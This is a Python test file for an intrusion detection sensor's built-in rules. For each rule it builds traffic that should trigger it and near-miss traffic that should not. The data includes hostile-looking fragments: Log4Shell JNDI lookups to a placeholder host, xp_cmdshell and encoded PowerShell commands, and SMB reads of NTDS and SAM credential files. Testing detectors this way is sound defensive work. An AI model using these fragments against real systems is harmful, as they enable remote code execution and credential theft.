#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The rules that fieldtap brings: each fires on what it is for, and not on what is nearly that.

usage: test_builtin_rules.py PATH_OF_FIELDTAP PATH_OF_FIELDTAP_PLANT [unittest options]
"""

import json
import pathlib

import sensor
import traffic
from intruder import (CONFICKER, CONFICKER_A, EASY, EFS, EFS_OVER_LSA, EVENT_LOG, FACTORY_USERS,
                      HAVEX, IN_LOGS, KILL, LOGIN_REFUSED, MIMIKATZ, MMC, NMAP_RPC, OPC_DA_2,
                      OPC_ENUM, PROMPT, SCANNERS, SHELL_BROWSER, SHELL_WINDOWS, SRVSVC, STUXNET_RPC,
                      SYS_NAME, TITLE, activation, asked, basic, bluekeep, connect, create,
                      datagrams, device_ids, discovers, endpoints, ftp_login, ftp_names,
                      http_logins, ip_protocols, kerberos_error, llmnr_answers, logins, long_names,
                      mail, monlist, mqtt_connect, nbstat, netbios_answers, nt_transact,
                      ntlm_challenge, ntlm_over_http, null_queries, on_smb, on_wmi, opc_enumeration,
                      page, pap, peek_pipe, pings, portmap, ports, reached_by, refusals, refused,
                      refused_datagrams, renames, rpc_bind, rpc_request, s7_passwords, server,
                      share_list, smb1, smb1_answer, smb2, smb2_command, snmp, spread_ports, ssh,
                      syslog, tds, telnet_login, telnet_logins, text_in_log, to_all, to_controller,
                      topology_changes, trans2, unc, unknown_names, write)
from sensor import Case, of_type, pcap, run
from traffic import (ACK, C, FIN, PSH, RST, S, SYN, URG, attempt, dns, http, others, repeat, tcp,
                     tls, udp, wide)

FOLDER = pathlib.Path(__file__).resolve().parents[2] / "lib/rules/builtin"

# id: (what fires it, what nearly does); where there are several ways, a list of them
ROWS = {
    # malware.json
    9150001: ([dns(name + ".com") for name in (
        f"www.{KILL}a", f"{KILL}b", KILL.replace("iuq", "iff") + "a",
        KILL.replace("iuqer", "iuqss") + "a", "ayylmaotjhsstasdfasdfasdfasdfasdfasdfasdf")],
              dns(f"www.{KILL}.com")),
    9150002: ([http(host=f"www.{KILL}a.com"), tls(f"{KILL}b.com")], tls("iuqerf.com")),
    9150003: ([on_smb(smb1(0x75, b"\xff\0", wide(f"\\\\{host}\\IPC$")))
               for host in ("192.168.56.20", "172.16.99.5")],
              on_smb(smb1(0x75, b"\xff\0", wide("\\\\192.168.56.21\\IPC$")))),
    9150004: (on_smb(trans2(14)), on_smb(trans2(5))),
    9150005: (tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190200"))),
              tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190300")))),
    9150006: (on_smb(nt_transact(5)), on_smb(nt_transact(6))),
    9150007: ([on_smb(smb2(CONFICKER), 139), on_smb(smb2(CONFICKER_A))],
              on_smb(smb2(CONFICKER[:-1]), 139)),
    9150008: ([http(url="/search?q=12" + more, host="203.0.113.7") for more in ("", "&aq=7")],
              http(url="/search?q=12")),
    9150009: ([dns("www.mypremierfutbol.com"), http(host="www.todaysfutbol.com")],
              dns("www.todaysfutbol.org")),
    9150010: (http(url="/index.php?data=66a96e28de8daedbe0102030"),
              http(url="/index.php?data=66a96e29de8daedbe0102030")),
    9150011: (on_smb(rpc_bind(STUXNET_RPC), 139), on_smb(rpc_bind(SRVSVC), 139)),
    9150012: (udp(1434, (C, b"\4" + b"\1" * 375)), udp(1434, (C, b"\4" + b"\1" * 16))),
    9150013: (http(url=HAVEX), http(url="/a.php?id=28574529&v1=038&v2=170393861&q=52658828")),
    9150014: ([page(b"<html>no data<!--havexQUJD--></html>"),
               page(b"<html>no data<!--HAVEXQUJD--></html>", 3128)],
              page(b"<html>no data<!-- havex --></html>")),
    9150015: ([http(port=port, method="POST", url="/g.php", body=b"id=xPLANT_A1B2C3D4&build_id=B1")
               for port in (80, 8081)],
              http(method="POST", url="/g.php", body=b"id=PLANT_A1B2C3D4&build_id=B1")),
    9150016: (udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289e"))),
              udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289f")))),
    9150017: ([http(method="POST", url=f"/cgi-bin/{name}.fcgi", body=b"a=1")
               for name in ("cpu", "ecat")], http(url="/cgi-bin/cpu.fcgi")),
    9150018: ([traffic.broadcast(1502, bytes.fromhex("060000000088")),
               to_all(1502, bytes.fromhex("060000000088"), None)],
              udp(1502, (C, bytes.fromhex("060000000088")))),
    9150019: ([tcp(port, (C, b'{"id":1, "method": "mining.%s", "params":[]}\n' % what))
               for port, what in ((3333, b"subscribe"), (4444, b"authorize"), (45700, b"submit"))],
              tcp(3333, (C, b'{"id":1,"method":"sensor.subscribe","params":[]}\n'))),
    9150020: ([(dns, tls)[i % 2]("eu." + pool) for i, pool in enumerate((
        "minexmr.com", "supportxmr.com", "moneroocean.stream", "nanopool.org", "2miners.com",
        "hashvault.pro", "f2pool.com", "c3pool.com", "nicehash.com"))],
              dns("nanopool.org.example")),
    9150021: ([on_smb(create(name)) for name in (
        "windows\\mssecsvc.exe", "tasksche.exe", "@WanaDecryptor@.exe")],
              on_smb(create("mssecsvc.log"))),
    9150022: ([on_smb(create(name)) for name in (
        "infpub.dat", "perfc.dat", "perfc", "dllhost.dat", "cscc.dat", "windows\\dispci.exe")],
              on_smb(create("perfc009.dat"))),
    9150023: ([others(2, lambda i, request=request: on_smb(request)) for request in (
        peek_pipe(0x23, 0), trans2(14), nt_transact(0, 0x10016))],
              [on_smb(peek_pipe(0x24, 0)), others(2, lambda i: on_smb(trans2(5)))]),
    9150024: ([asked(trans2(14), smb1_answer(0x32, 0xC0000002, multiplex))
               for multiplex in (0x51, 0x52, 0x61, 0x62, 0x71, 0x72)],
              asked(trans2(5), smb1_answer(0x32, 0xC0000002, 0x51))),
    9150025: ([repeat(2, lambda i, item=item: (
        activation(OPC_ENUM), tcp(49668, (C, rpc_request(5, wide("Bay1.CB1." + item)))))[i])
               for item in ("ctlSelOn", "ctlOperOn", "ctlSelOff", "ctlOperOff")],
              [tcp(49668, (C, rpc_request(5, wide("Bay1.CB1.ctlOperOn")))),
               repeat(2, lambda i: (activation(OPC_ENUM),
                                    tcp(49668, (C, rpc_request(5, wide("Bay1.CB1.stVal")))))[i])]),
    9150026: (ssh(b"dropbear_2014.63", 6789), ssh(b"dropbear_2014.63")),
    9150027: ([unknown_names(50), unknown_names(50, "ws")],
              [unknown_names(49), unknown_names(60, "example")]),
    9150028: (renames(100), renames(99)),
    # attacks.json
    9150040: (on_smb(peek_pipe(0x23, 0)), on_smb(peek_pipe(0x23, 0x4000))),
    9150041: ([on_smb(b"\0\0\0\x20\xfcSMB" + b"\xff" * 4 + bytes(24)),
               on_smb(b"\0\0\0\x20\xfcSMB" + bytes(8) + b"\xff" * 4 + bytes(16))],
              on_smb(b"\0\0\0\x20\xfcSMB\0\x10\0\0" + bytes(24))),
    9150042: (bluekeep(b"MS_T120"), bluekeep(b"rdpsnd")),
    9150043: (tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + bytes(8)
                          + b"\xff\xff\x2f\x21")),
              tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + b"8bytekey"
                          + b"\xff\xff\x2f\x21"))),
    9150044: ([place(text) for place in IN_LOGS for text in ("${jndi:ldap://192.0.2.1/a}",
                                                             "${a${lower:j}ndi:x}")],
              text_in_log("${jndi-like}")),
    9150045: ([tcp(port, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2java" + word + b" ldap://a/"))
               for port, word in ((1389, b"CodeBase"), (389, b"SerializedData"),
                                  (389, b"NamingReference"), (389, b"Factory"))],
              tcp(1389, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2description: java beans"))),
    9150046: (http(url="/Exploit.class", agent="Java/1.8.0_102"),
              http(url="/Exploit.class")),
    9150048: (tds("User ID=WinCCConnect"), tds("User ID=WinCC")),
    9150049: ([ntlm_challenge(EASY), ntlm_challenge(EASY, 389), ntlm_over_http(EASY)],
              [ntlm_challenge(EASY[:-1] + b"\x89"), ntlm_over_http(EASY[:-1] + b"\x99")]),
    9150050: (on_smb(rpc_bind(MIMIKATZ), 135), on_smb(smb2(MIMIKATZ))),
    9150062: ([syslog(f"The {log} log {was} cleared") for log, was in (
        ("audit", "was"), ("security", "has been"), ("event", "was"), ("system", "was"))],
              syslog("The audit log was rotated")),
    9150063: (discovers(50), [discovers(49), discovers(200, 49)]),
    9150065: (on_smb(nt_transact(0, 0x10016)), on_smb(nt_transact(1, 0x10016))),
    9150066: ([on_smb(smb2(rpc_request(operation, wide(path)))) for operation, path in (
        (31, "\\AAAA\\..\\..\\B"), (32, "\\AAAA\\..\\..\\B"), (31, "/AAAA/../../B"))],
              on_smb(smb2(rpc_request(15, wide("\\AAAA\\..\\..\\B"))))),
    9150160: (asked(peek_pipe(0x23, 0), smb1_answer(0x25, 0xC0000205)),
              asked(peek_pipe(0x24, 0), smb1_answer(0x25, 0xC0000205))),
    9150161: ([on_smb(smb2(unc(89))), tcp(49670, (C, unc(89)))],
              [on_smb(smb2(unc(88))),
               on_smb(smb2(rpc_request(89, bytes(20) + wide("\\\\10.9.9.9\0c:\\a.dll\0"))))]),
    9150162: ([on_smb(smb2(rpc_bind(EFS))), on_smb(smb2(rpc_bind(EFS_OVER_LSA)))],
              on_smb(smb2(rpc_bind(SRVSVC)))),
    9150163: ([tcp(445, (C, smb2(rpc_bind(EFS))), (C, smb2(unc(operation))))
               for operation in (0, 4, 5, 6, 7, 12)],
              tcp(445, (C, smb2(rpc_bind(SRVSVC))), (C, smb2(unc(0))))),
    9150164: ([on_smb(create(name)) for name in (
        "Windows\\NTDS\\ntds.dit", "Windows\\System32\\config\\SAM", "System32\\config\\SECURITY")],
              [on_smb(create(name)) for name in ("ntds.txt", "config\\SAM", "System32\\config")]),
    9150166: (llmnr_answers(3), llmnr_answers(2)),
    9150167: ([netbios_answers(3), netbios_answers(3, 0x8500, 0x20)],
              [netbios_answers(2), netbios_answers(9, 0x8580), netbios_answers(9, 0x8583),
               netbios_answers(9, 0x8500, 0x1D), netbios_answers(9, 0x8500, 0, 0x80)]),
    9150168: ([topology_changes(30, change) for change in (
        b"\0\0\0\x80", b"\0\0\0\0\1", b"\0\0\2\2\1")],
              [topology_changes(29, b"\0\0\0\x80"), topology_changes(60, b"\0\0\2\2\0")]),
    # logins.json
    9150054: (refused(30), refused(29)),
    9150056: ([repeat(5, lambda i, reply=reply: ftp_login(i, reply + b" no\r\n"))
               for reply in (b"530", b"430")], repeat(4, lambda i: ftp_login(i, b"530 no\r\n"))),
    9150057: (repeat(5, lambda i: telnet_login(i, b"root", b"Login incorrect")),
              repeat(4, lambda i: telnet_login(i, b"root", b"Login incorrect"))),
    9150058: (http_logins(*["root"] * 5), http_logins(*["root"] * 4)),
    9150059: (s7_passwords(5), s7_passwords(4)),
    9150060: ([syslog(text, 10) for text in (
        "Failed password for root", "Authentication failed", "authentication failure; user=a",
        "Login failed", "login failure", "Invalid password")],
              syslog("Failed password for root", 9)),
    9150061: ([telnet_login(0, b"sysdiag", b"$")] + [basic(user) for user in FACTORY_USERS],
              basic("sysdiags")),
    9150064: ([to_controller(login) for login in (
        ftp_login(0, b"230 in\r\n"), telnet_login(0, b"anna", b"$"), basic("anna"))],
              ftp_login(0, b"230 in\r\n")),
    9150071: ([others(5, lambda i: ftp_login(i, b"530 no\r\n")),
               others(5, lambda i: telnet_login(i, b"root", b"Login incorrect")),
               others(5, lambda i: http_logins("root"))],
              others(4, lambda i: ftp_login(i, b"530 no\r\n"))),
    9150072: (ftp_names(b"a", b"b", b"c", b"d", b"e"),
              ftp_names(b"a", b"b", b"c", b"d", b"a", b"b")),
    9150073: (repeat(5, lambda i: telnet_login(i, b"user%d" % i, b"$")),
              repeat(8, lambda i: telnet_login(i, b"user%d" % (i // 2), b"$"))),
    9150074: (repeat(5, lambda i: snmp(b"secret%d" % i, SYS_NAME, i)),
              repeat(8, lambda i: snmp(b"secret%d" % (i // 2), SYS_NAME, i))),
    9150076: (repeat(4, lambda i: ftp_login(i, (b"530 no", b"230 in")[i == 3] + b"\r\n")),
              repeat(3, lambda i: ftp_login(i, (b"530 no", b"230 in")[i == 2] + b"\r\n"))),
    9150077: (telnet_logins(b"Login incorrect", b"Login incorrect", b"Login incorrect", PROMPT),
              telnet_logins(b"Login incorrect", b"Login incorrect", PROMPT, PROMPT)),
    9150078: (http_logins("a", "a", "a", "a", then="200 OK"),
              http_logins("a", "a", "a", then="200 OK")),
    9150079: (others(2, lambda i: http_logins(*("abc", "cde")[i])),
              others(2, lambda i: http_logins(*("abc", "bcd")[i]))),
    9150130: (refusals(*[smb2_command(1, bytes(8), status, 1) for status in LOGIN_REFUSED],
                       *[smb1_answer(0x73, status) for status in LOGIN_REFUSED]),
              [logins(445, smb2_command(1, bytes(8), LOGIN_REFUSED[0], 1), 4),
               logins(445, smb2_command(1, bytes(8), 0xC0000016, 1), 9),
               logins(445, smb2_command(5, bytes(8), LOGIN_REFUSED[0], 1), 9)]),
    9150131: ([logins(port, data, 5) for port, data in (
        (1433, b"\4\1\0\x20\0\0\1\0\xaa\x30\0\x18\x48\0\0\1\x0e"),
        (3306, b"\x20\0\0\2\xff\x15\4#28000Access denied"),
        (5432, b"E\0\0\0\x40SFATAL\0C28P01\0Mpassword"), (6379, b"-WRONGPASS invalid\r\n"),
        (6379, b"-ERR invalid password\r\n"), (1521, b"\0\x40\0\0\6\0ORA-01017: invalid"))],
              [logins(1433, b"\4\1\0\x20\0\0\1\0\xaa\x30\0\x18\x48\0\0\1\x0e", 4),
               logins(1433, b"\4\1\0\x20\0\0\1\0\xaa\x30\0\x19\x48\0\0\1\x0e", 9),
               logins(5432, b"E\0\0\0\x40SERROR\0C42P01\0Mtable", 9)]),
    9150132: ([logins(port, b"\x30\x0c\2\1\1\x61\7\x0a\1\x31\4\0\4\0", 5) for port in (389, 3268)],
              [logins(389, b"\x30\x0c\2\1\1\x61\7\x0a\1\x31\4\0\4\0", 4),
               logins(389, b"\x30\x0c\2\1\1\x61\7\x0a\1\0\4\0\4\0", 9)]),
    9150133: ([logins(port, data, 5) for port, data in (
        (25, b"535 5.7.8 no\r\n"), (587, b"535-5.7.8 no\r\n"),
        (110, b"-ERR Authentication failed\r\n"), (110, b"-ERR wrong password\r\n"),
        (110, b"-ERR [AUTH] Logon denied\r\n"), (143, b"a1 NO LOGIN failed\r\n"),
        (143, b"a1 NO [AUTHENTICATIONFAILED] no\r\n"))],
              [logins(25, b"535 5.7.8 no\r\n", 4), logins(25, b"550 no such user\r\n", 9),
               logins(110, b"-ERR no such message\r\n", 9),
               logins(143, b"a1 NO no such mailbox\r\n", 9)]),
    9150134: ([logins(88, kerberos_error(number), 5) for number in (6, 18, 24)]
              + [repeat(5, lambda i: udp(88, (C, b"?"), (S, kerberos_error(24)), source=4000 + i))],
              [logins(88, kerberos_error(24), 4), logins(88, kerberos_error(25), 9),
               logins(88, kerberos_error(6, "plant$"), 9)]),
    9150135: ([logins(1883, bytes((0x20, 2, 0, code)), 5) for code in (4, 5, 0x86, 0x87)],
              [logins(1883, b"\x20\2\0\5", 4), logins(1883, b"\x20\2\0\0", 9)]),
    9150136: ([logins(5900, b"\0\0\0\1" + reason, 5) for reason in (b"", b"\0\0\0\4fail")],
              [logins(5900, b"\0\0\0\1", 4),
               tcp(5900, *[(S, b"\0\0\0\1" + bytes(8) + b"\1\0\1\0" + bytes(4))] * 9,
                   *[(S, b"\0\0\0\1")] * 9)]),
    9150137: ([mail(port, line) for port, line in (
        (110, b"PASS word"), (143, b"a1 LOGIN user word"), (25, b"AUTH LOGIN"),
        (587, b"AUTH PLAIN AHVzZXIAd29yZA=="), (143, b"a1 AUTHENTICATE PLAIN"))],
              [mail(110, b"STAT"), mail(587, b"AUTH CRAM-MD5"), mail(143, b"a1 LOGOUT")]),
    9150138: (tcp(389, (C, b"\x30\x14\2\1\1\x60\x0f\2\1\3\4\4cn=a\x80\4word")),
              [tcp(389, (C, b"\x30\x10\2\1\1\x60\x0b\2\1\3\4\4cn=a\x80\0")),
               tcp(389, (C, b"\x30\x14\2\1\1\x60\x0f\2\1\3\4\0\xa3\x08\4\6GSSAPI"))]),
    9150139: ([mqtt_connect(0xC2), mqtt_connect(0x42, b"MQTT\5"), mqtt_connect(0xC2, b"MQIsdp\3")],
              mqtt_connect(2)),
    9150140: (pap(1), pap(2)),
    # remote.json
    9150047: ([tds("EXEC " + name + " 'dir'") for name in (
        "master..xp_CmdShell", "sp_OACreate", "sp_addextendedproc", "sp_dumpdbilog")],
              tds("SELECT * FROM xp_shell")),
    9150051: (on_smb(smb2(wide("PSEXESVC.exe"))), on_smb(smb2(wide("PSEXE.txt")))),
    9150052: (on_smb(smb2(wide("RemCom_communicaton"))), on_smb(smb2(wide("RemCommand")))),
    9150053: ([on_smb(smb2(wide("%COMSPEC% /Q /c echo cd"))), on_smb(create("__output")),
               on_smb(create("__output_12")), on_smb(create("__1700000000.12")),
               on_smb(create("SYSTEM32\\AbCdEfGh.tmp"))],
              [on_smb(smb2(wide("%COMSPEC% /c echo cd"))), on_smb(create("__outputs.csv")),
               on_smb(create("__170000000.12")), on_smb(create("SYSTEM32\\AbCdEfG.tmp"))]),
    9150067: (on_smb(smb2(wide("/C dir > %windir%\\Temp\\AbCdEfGh.tmp 2>&1"))),
              on_smb(smb2(wide("/C dir > %windir%\\Temp\\AbCdEfGh.tmp")))),
    9150068: ([activation(number) for number in (MMC, SHELL_WINDOWS, SHELL_BROWSER)],
              activation(MMC[::-1])),
    9150069: ([on_wmi(14, text) for text in (
        b"CommandLineEventConsumer", b"ActiveScriptEventConsumer", b"__FilterToConsumerBinding",
        wide("CommandLineEventConsumer"), wide("ActiveScriptEventConsumer"))],
              on_wmi(14, b"NTEventLogEventConsumer")),
    9150070: ([on_wmi(24, b"cmd.exe /Q /c whoami 1> a.txt"), on_wmi(24, wide("cmd.exe /Q /c dir"))],
              on_wmi(24, b"cmd.exe /c whoami")),
    9150075: ([on_smb(smb2(wide("powershell.exe -NoP -W Hidden -enc SQBFAFgA"))),
               tds("powershell.exe -e SQBFAFgA"),
               *[tcp(port, (C, b"powershell%s -nop -%s %s\r\n" % (name, option, b"SQBFAFgA" * 4)))
                 for port, name, option in (
                     (445, b".exe", b"e"), (23, b"", b"enc"), (80, b"", b"ec"),
                     (5985, b"", b"EncodedCommand"), (49670, b"", b"e"))]],
              [on_smb(smb2(wide("powershell.exe -File a.ps1"))),
               tcp(80, (C, b"powershell -e SQBFAFgA\r\n"))]),
    9150150: ([on_smb(create(f"tool-HOST-1234-std{end}")) for end in ("in", "out", "err")],
              on_smb(create("report-stdin.txt"))),
    9150151: ([on_smb(connect(share)) for share in ("ADMIN$", "C$", "d$")],
              [on_smb(connect(share)) for share in ("IPC$", "data$")]),
    9150152: (tcp(445, (C, connect("ADMIN$")), (C, write(b"MZ\x90\0" + bytes(60)))),
              [tcp(445, (C, connect("data")), (C, write(b"MZ\x90\0"))),
               tcp(445, (C, write(b"MZ\x90\0")))]),
    9150153: ([on_wmi(operation, name) for operation, name in (
        (24, b"Win32_Process"), (25, b"Win32_Process"), (24, wide("Win32_Process")))],
              [on_wmi(20, b"Win32_Process"), on_wmi(24, b"Win32_Service")]),
    9150154: (on_smb(create("InitShutdown")), on_smb(create("InitShut"))),
    9150155: (on_smb(smb2(rpc_bind(EVENT_LOG))), on_smb(smb2(rpc_bind(SRVSVC)))),
    9150156: (tcp(445, (C, smb2(rpc_bind(EVENT_LOG))), (C, smb2(rpc_request(0, bytes(24))))),
              [tcp(445, (C, smb2(rpc_bind(SRVSVC))), (C, smb2(rpc_request(0, bytes(24)))))]),
    # scans.json
    9150080: (http(url="/nice%20ports%2C/Tri%6Eity.txt%2ebak"), http(url="/nice%20ports/a.txt")),
    9150081: ([http(agent=f"Mozilla/5.0 (compatible; {name})") for name in SCANNERS],
              http(agent="census")),
    9150082: ([dns(name, 16, 3) for name in ("version.bind", "VERSION.server", "authors.bind")],
              dns("version.bind", 16, 1)),
    9150083: ([tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0" + cookie + b"\r\n"))
               for cookie in (b"Cookie: mstshash=nmap", b"COOKIE: mstshash=NMAP")],
              tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=nmapper\r\n"))),
    9150084: ([udp(5060, (C, b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n")),
               tcp(5061, (C, b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n"))],
              udp(5060, (C, b"OPTIONS sip:pm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n"))),
    9150085: ([udp(111, (C, NMAP_RPC)), tcp(111, (C, b"\x80\0\0\x28" + NMAP_RPC)),
               tcp(2049, (C, b"\x80\0\0\x28" + NMAP_RPC))],
              udp(111, (C, b"\x72\xfe\x1d\x14" + NMAP_RPC[4:]))),
    9150086: ([ssh(name) for name in (
        b"Nmap-SSH2-Hostkey", b"ZGrab", b"MEDUSA_1.0", b"libssh-scan", b"check-ssh-scan",
        b"ssh-audit_3")],
              ssh(b"OpenSSH_9.6 Nmap")),
    9150087: (nbstat(50), nbstat(49)),
    9150088: ([device_ids(30), device_ids(30, b"\x11")], device_ids(29)),
    9150089: ([monlist(42), monlist(20)], monlist(4)),
    9150090: ([pings(20, kind) for kind in (8, 13, 15, 17)], pings(19)),
    9150092: ([ports(15), ports(15, None)],
              repeat(2, lambda i: (ports(14), ports(40, SYN | ACK))[i])),
    9150094: (others(20, lambda i: attempt(80, RST | ACK, 40000 + i)),
              others(38, lambda i: attempt(80 + i % 2, RST | ACK, 40000 + i))),
    9150095: ([others(5, lambda i, port=port: attempt(port, RST | ACK, 40000 + i)) for port in (
        102, 502, 1090, 1502, 2404, 4840, 5007, 9600, 11234, 12401, 18245, 20000, 34964, 44818,
        47808)],
              others(20, lambda i: attempt((502, 102)[i % 2], (RST if i < 8 else SYN) | ACK,
                                           40000 + i))),
    9150096: ([repeat(3, lambda i, flags=flags: attempt(1000 + i, RST | ACK, flags=flags[i]))
               for flags in ((0, FIN, FIN | PSH | URG), (FIN | SYN, 0x2B, 0x3F))],
              repeat(3, lambda i: attempt(1000 + i // 2, RST | ACK, flags=FIN))),
    9150097: (ports(10, RST, flags=ACK),
              repeat(2, lambda i: (ports(9, RST, flags=ACK),
                                   repeat(20, lambda k: tcp(1200 + k, source=50000 + k)))[i])),
    9150098: (refused_datagrams(10),
              repeat(2, lambda i: (refused_datagrams(9), refused_datagrams(20, 53))[i])),
    9150099: (datagrams(15), repeat(2, lambda i: (datagrams(14), datagrams(40, 33434))[i])),
    9150120: ([ports(3, window=window, options=b"\2\4\5\xb4")
               for window in (1024, 2048, 3072, 4096)],
              repeat(2, lambda i: (ports(2, window=2048, options=b"\2\4\5\xb4"),
                                   ports(9, window=2048, options=b"\2\4\5\xb4\1\1\4\2"))[i])),
    9150121: (attempt(80, window=65535, number=54321), attempt(80, window=65535, number=54322)),
    9150122: ([attempt(80, flags=flags, window=window) for flags, window in (
        (0, 128), (0x2B, 256), (0x29, 65535), (SYN, 31337))],
              attempt(80, flags=SYN | PSH | ACK, window=256)),
    9150123: (ip_protocols(3, 5, 7, 8, 9, 10, 11, 12),
              ip_protocols(3, 5, 7, 8, 9, 10, 11, 11, 1, 2, 6, 17, 58)),
    9150124: ([repeat(2, lambda i, kinds=kinds: traffic.icmp(kinds[i], data=bytes(12)))
               for kinds in ((13, 17), (13, 15), (15, 17))],
              repeat(2, lambda i: traffic.icmp((13, 8)[i], data=bytes(12)))),
    9150125: ([others(5, lambda i: (nbstat(1), snmp(b"public"))[i % 2]),
               others(5, lambda i: nbstat(1)), others(5, lambda i: snmp(b"public"))],
              others(4, lambda i: (nbstat(1), snmp(b"public"))[i % 2])),
    9150126: ([opc_enumeration(2), opc_enumeration(2, OPC_DA_2)], repeat(3, lambda i: (
        opc_enumeration(1), opc_enumeration(1), opc_enumeration(2, OPC_ENUM[::-1]))[i])),
    9150170: ([spread_ports(25)], spread_ports(24)),
    9150171: ([others(5, lambda i, port=port: udp(port, (C, b"who?"))) for port in (
        1502, 1740, 1743, 9600, 27127, 44818)],
              [others(4, lambda i: udp(9600, (C, b"who?"))),
               others(9, lambda i: udp(9600, (C, b"who?"), (S, b"me")))]),
    9150172: (others(5, lambda i: endpoints()),
              [others(4, lambda i: endpoints()), others(9, lambda i: endpoints(3)),
               others(9, lambda i: tcp(135, (C, rpc_request(2, bytes(40)))))]),
    9150173: ([others(5, lambda i, level=level: on_smb(share_list(level)))
               for level in (1, 2, 501)],
              [others(4, lambda i: on_smb(share_list(1))),
               others(9, lambda i: on_smb(share_list(7))),
               others(9, lambda i: on_smb(share_list(1, 16)))]),
    9150174: ([others(5, lambda i: udp(111, (C, portmap(4)))),
               others(5, lambda i: tcp(111, (C, b"\x80\0\0\x28" + portmap(4))))],
              [others(4, lambda i: udp(111, (C, portmap(4)))),
               others(9, lambda i: udp(111, (C, portmap(3))))]),
    # tunnels.json
    9150100: (dns("dnscat.0123456789abcdef.example"), dns("dnscat.documentation.example")),
    9150101: ([dns(f"AAAAAA.={word}.t.example", kind)
               for word, kind in (("auth", 16), ("connect", 25), ("resource", 16))],
              dns("AAAAAA.=auth.t.example", 1)),
    9150102: (null_queries(5), null_queries(4)),
    9150103: ([dns(name) for name in (
        "aaa.stage.14919005.t.example", "www.stage.123456.example", "post.1a0b.x.example",
        "posta.fe9.x.example")],
              [dns(name) for name in ("aaa.stages.14919005.t.example", "posta.ad.example",
                                      "postman.1a0b.example")]),
    9150104: ([server(b"\x08\xbb\0\xee", **TITLE), server(b"\1", CN="Major Cobalt Strike")],
              server(b"\x08\xbb\0\xef", **TITLE)),
    9150105: ([server(b"\1", CN=name) for name in (
        "AsyncRAT Server", "Quasar Server CA", "DcRat", "BitRAT", "VenomRAT", "OrcusServer",
        "Covenant", "P18055077")] + [server(b"\1", O="Mythic")], server(b"\1", CN="Async Server")),
    9150106: (dns("abcdefghijklmnop.onion"), dns("onion.example")),
    9150107: ([tls(name) for name in (
        "dns.google", "mozilla.cloudflare-dns.com", "one.one.one.one", "dns9.quad9.net",
        "doh.opendns.com", "dns.nextdns.io", "dns.adguard-dns.com")], tls("dns.google.example")),
    9150108: ([(dns("a." + name), tls(name), http(host="a." + name))[i % 3]
               for i, name in enumerate((
                   "teamviewer.com", "anydesk.com", "screenconnect.com", "logmein.com",
                   "gotoassist.com", "splashtop.com", "rustdesk.com", "dwservice.net",
                   "remoteutilities.com", "beyondtrustcloud.com"))], dns("teamviewer.com.example")),
    9150109: ([(dns, tls)[i % 2]("a." + name) for i, name in enumerate((
        "ngrok.com", "ngrok.io", "ngrok-free.app", "argotunnel.com", "trycloudflare.com",
        "serveo.net", "localtonet.com", "localhost.run", "pinggy.io", "playit.gg", "loca.lt"))],
              tls("cloudflare.com")),
    9150110: ([tcp(port, (C, b"\x17$")) for port in (4899, 5938, 6568, 7070, 8040, 8041)],
              [tcp(5939, (C, b"\x17$")), attempt(5938, RST | ACK)]),
    9150111: (reached_by(http(port=3128, method="CONNECT", url="a.example:443")),
              http(port=3128, method="CONNECT", url="a.example:443")),
    9150112: ([tcp(1080, (C, b"\5\1\0"), (S, b"\5\0")), tcp(9050, (C, b"\4\1\0\x50\7\7\7\7me\0"))],
              tcp(1080, (C, b"\6\1\0"))),
    9150180: ([long_names(50), long_names(50, 25)],
              [long_names(49), long_names(99, 1), long_names(99, 16, "a.sophosxl.net")]),
    9150181: (attempt(853, SYN | ACK), attempt(853, RST | ACK)),
    9150182: ([server(b"\1", CN=name) for name in (
        "AnyDesk Client", "AnyNet Relay", "TeamViewer", "a.screenconnect.example")],
              server(b"\1", CN="Desk")),
}

def rules():
    return [rule for path in sorted(FOLDER.glob("*.json"))
            for rule in json.loads(path.read_text())["rules"]]


def title(number):
    return next(rule["title"] for rule in rules() if rule["id"] == number)


# Rules of which the same traffic is a hit, too: what they come after, or consist of.
ALSO = {
    9150023: {9150004, 9150040, 9150065},
    9150024: {9150004},
    9150152: {9150151},
    9150156: {9150155},
    9150160: {9150040},
    9150163: {9150162},
}


def scenes(which):
    """A rule and a conversation each."""
    for rule, row in ROWS.items():
        ways = row[which] if isinstance(row[which], list) else [row[which]]
        for way in ways:
            yield rule, way


def hosts(number):
    """A client and a server that no other scene has."""
    return tuple((10, 1 + number // 250, number % 250, host) for host in (1, 2))


def scene_of(event):
    """The number of the scene that an alert is about; without IP by the MAC address."""
    for ip in (event.get("src_ip", ""), event.get("dest_ip", "")):
        if ip.startswith("10."):
            return (int(ip.split(".")[1]) - 1) * 250 + int(ip.split(".")[2])
    mac = bytes.fromhex(event["ether"]["src_mac"].replace(":", ""))
    return (mac[3] - 1) * 250 + mac[4]


def packets(which):
    """The traffic of all scenes, each between two hosts of its own."""
    frames, at = [], 0.0
    for i, (_, way) in enumerate(scenes(which)):
        for frame in way(*hosts(i)):
            if isinstance(frame, float):
                at += frame
                continue
            frames.append((at, frame))
            at += 0.0005
    frames.append((at + 100, sensor.udp(b"later")))  # what had no answer has none
    return frames


class BuiltIn(Case):
    """All scenes in one capture, those that fire and those that nearly do in another."""

    def test_each_has_its_row(self):
        ids = [rule["id"] for rule in rules()]
        self.assertEqual(sorted(set(ids)), sorted(ids))
        self.assertEqual(sorted(ids), sorted(ROWS))
        self.assertTrue(all(9150000 < i < 9160000 for i in ids))

    def test_each_says_everything(self):
        for rule in rules():
            with self.subTest(rule["id"]):
                for key in ("title", "message", "severity", "engine", "category", "mitre", "when",
                            "remediation", "reference"):
                    self.assertTrue(rule.get(key), key)

    def test_they_are_sound(self):
        r = run("--check-rules", FOLDER)
